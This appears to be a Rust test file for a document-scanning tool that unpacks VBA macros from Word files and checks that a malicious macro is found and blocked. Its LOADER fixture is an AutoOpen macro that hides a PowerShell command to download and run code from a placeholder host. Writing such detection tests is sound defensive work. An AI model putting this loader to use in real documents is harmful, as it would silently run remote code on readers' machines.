//! Macros of documents: unpacked as office programs do it, under the right locator, whatever the directory says.

use std::io::{Cursor, Write};

use lurescan::artifact::{Artifact, Blob};
use lurescan::classify::classify;
use lurescan::finding::Verdict;
use lurescan::limits::Budget;
use lurescan::locator::{Locator, Step};
use lurescan::unpack::{self, Unfolded};

use crate::ambiguity::scan_bytes;
use crate::containers::job;

const LOADER: &str = "Attribute VB_Name = \"ThisDocument\"\r\nSub AutoOpen()\r\n    Dim c As String\r\n    c = \"power\" & \"shell -w hidden -c \"\"iwr https://lure.invalid/x | iex\"\"\"\r\n    Shell c, vbHide\r\nEnd Sub\r\n";

/// Bytes as they are, in chunks of the format ([MS-OVBA] 2.4.1).
pub fn packed(text: &[u8]) -> Vec<u8> {
    let mut out = vec![1];
    for chunk in text.chunks(3_600) {
        let data: Vec<u8> = chunk.chunks(8).flat_map(|eight| [&[0], eight].concat()).collect();
        out.extend((0xb000 | (data.len() - 1) as u16).to_le_bytes());
        out.extend(data);
    }
    out
}

/// The directory of a project: what stands before the modules, then each with its stream and the place of its source.
pub fn directory(modules: &[(&str, u32)]) -> Vec<u8> {
    let record = |id: u16, data: &[u8]| [&id.to_le_bytes()[..], &(data.len() as u32).to_le_bytes(), data].concat();
    let mut out = [record(1, &[3, 0, 0, 0]), record(4, b"VBAProject")].concat();
    // The version says four bytes and has six.
    out.extend([&9u16.to_le_bytes()[..], &4u32.to_le_bytes(), &[1, 0, 0, 0, 2, 0]].concat());
    for (name, offset) in modules {
        let wide: Vec<u8> = name.encode_utf16().flat_map(u16::to_le_bytes).collect();
        let named = [record(0x19, name.as_bytes()), record(0x1a, name.as_bytes()), record(0x32, &wide)].concat();
        out.extend([named, record(0x31, &offset.to_le_bytes()), record(0x21, b""), record(0x2b, b"")].concat());
    }
    out.extend(record(0x10, b""));
    packed(&out)
}

/// A document with these streams in its project.
pub fn document(streams: &[(&str, &[u8])]) -> Vec<u8> {
    let mut file = cfb::CompoundFile::create_with_version(cfb::Version::V3, Cursor::new(Vec::new())).expect("memory");
    file.create_storage("/Macros").expect("memory");
    file.create_storage("/Macros/VBA").expect("memory");
    for (name, content) in streams {
        file.create_stream(format!("/Macros/VBA/{name}")).expect("memory").write_all(content).expect("memory");
    }
    file.into_inner().into_inner()
}

/// A document with macros, each behind sixteen bytes of what was compiled.
pub fn macros(modules: &[(&str, &str)]) -> Vec<u8> {
    let compiled = [0xcc; 16];
    let sources: Vec<(&str, Vec<u8>)> =
        modules.iter().map(|(name, text)| (*name, [&compiled[..], &packed(text.as_bytes())].concat())).collect();
    let named: Vec<(&str, u32)> = modules.iter().map(|(name, _)| (*name, 16)).collect();
    let dir = directory(&named);
    let mut streams = vec![("dir", &dir[..])];
    streams.extend(sources.iter().map(|(name, bytes)| (*name, &bytes[..])));
    document(&streams)
}

/// Every layer and member within bytes, with its locator.
fn unfolded(name: &str, bytes: &[u8]) -> Vec<(String, Vec<u8>)> {
    let mut budget = Budget::default();
    let mut out = Vec::new();
    let mut work = vec![Blob::new(Locator::root(Step::File(name.into())), bytes.to_vec())];
    while let Some(blob) = work.pop() {
        out.push((blob.at.to_string(), blob.bytes.to_vec()));
        let artifact: Artifact = classify(blob);
        let mut members = unpack::open(&artifact).members;
        while let Some(next) = members.as_mut().and_then(|members| members.next(&mut budget)) {
            if let Unfolded::Blob(blob) = next {
                work.push(blob);
            }
        }
    }
    out
}

#[test]
fn the_examples_of_the_specification_unpack_to_what_it_says() {
    // [MS-OVBA] 3.2: no copies, some copies, one long copy.
    let table: &[(&[u8], &str)] = &[
        (b"\x01\x19\xb0\x00abcdefgh\x00ijklmnop\x00qrstuv.", "abcdefghijklmnopqrstuv."),
        (
            b"\x01\x2f\xb0\x00#aaabcde\x82f\0paghij\x018\x08akl\x000mnop\x06q\x02p\x04\x10rstuv\x10wxyz\0<",
            "#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa",
        ),
        (b"\x01\x03\xb0\x02aE\0", &"a".repeat(73)),
    ];
    for (packed, text) in table {
        let dir = directory(&[("M", 0)]);
        let found = unfolded("a.doc", &document(&[("dir", &dir), ("M", packed)]));
        let layer = found.iter().find(|(at, _)| at == "a.doc!/Macros/VBA/M#vba@0");
        assert_eq!(layer.map(|(_, bytes)| String::from_utf8_lossy(bytes).into_owned()).as_deref(), Some(*text));
    }
}

#[test]
fn a_macro_that_fetches_and_runs_blocks_under_the_locator_of_its_source() {
    let bytes = macros(&[("ThisDocument", LOADER)]);
    for (name, bytes, at) in [
        ("plan.doc", bytes.clone(), "plan.doc!/Macros/VBA/ThisDocument#vba@16"),
        (
            "plan.docm",
            job("word/vbaProject.bin", &bytes),
            "plan.docm!/word/vbaProject.bin!/Macros/VBA/ThisDocument#vba@16",
        ),
    ] {
        let report = scan_bytes(name, bytes);
        let found = report.findings.iter().find(|finding| finding.rule == "office-macro");
        assert_eq!(found.map(|finding| finding.locator.as_str()), Some(at), "{:?} {:?}", report.findings, report.gaps);
        assert_eq!(report.verdict, Verdict::Block);
    }
}

#[test]
fn a_source_that_the_directory_does_not_name_is_found_all_the_same() {
    let source = [&[0xcc; 40][..], &packed(LOADER.as_bytes())].concat();
    for dir in [b"\x01nothing".to_vec(), directory(&[("Other", 0), ("ThisDocument", 0x7fff_ffff)])] {
        let report = scan_bytes("plan.doc", document(&[("dir", &dir), ("ThisDocument", &source)]));
        let found = report.findings.iter().any(|finding| finding.locator.ends_with("/ThisDocument#vba@40"));
        assert!(found && report.verdict == Verdict::Block, "{:?} {:?}", report.findings, report.gaps);
    }
}
